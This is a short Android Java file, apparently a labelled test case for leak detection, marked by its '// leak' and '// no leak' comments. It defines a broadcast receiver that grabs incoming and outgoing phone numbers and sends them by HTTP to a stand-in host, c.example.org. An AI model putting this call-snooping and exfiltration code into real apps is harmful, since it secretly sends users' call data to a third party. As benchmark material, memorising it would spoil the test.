package thieves;

import android.content.*;
import android.os.Bundle;
import android.telephony.TelephonyManager;

import org.apache.http.client.methods.HttpGet;
import org.apache.http.impl.client.DefaultHttpClient;

import java.net.URLEncoder;

/** Who calls and who is called, told as it happens. */
public class Ring extends BroadcastReceiver {
    private static String last = "";

    @Override
    public void onReceive(Context c, Intent i) {
        Bundle b = i.getExtras();
        if ("android.intent.action.NEW_OUTGOING_CALL".equals(i.getAction())) last = getResultData() != null ? getResultData() : b.getString(Intent.EXTRA_PHONE_NUMBER);
        String state = b.getString(TelephonyManager.EXTRA_STATE);
        if (TelephonyManager.EXTRA_STATE_RINGING.equals(state)) last = b.getString(TelephonyManager.EXTRA_INCOMING_NUMBER);
        new Tell("num=" + URLEncoder.encode(last)).start();
        new Tell2("state=" + (state == null ? "out" : "in")).start();
    }

    static class Tell extends Thread {
        private final String query;

        Tell(String q) {
            query = q;
        }

        public void run() {
            try {
                new DefaultHttpClient().execute(new HttpGet("http://c.example.org/ring?" + query)); // leak
            } catch (Exception e) {
            }
        }
    }

    static class Tell2 extends Thread {
        private final String query;

        Tell2(String q) {
            query = q;
        }

        public void run() {
            try {
                new DefaultHttpClient().execute(new HttpGet("http://c.example.org/state?" + query)); // no leak
            } catch (Exception e) {
            }
        }
    }
}
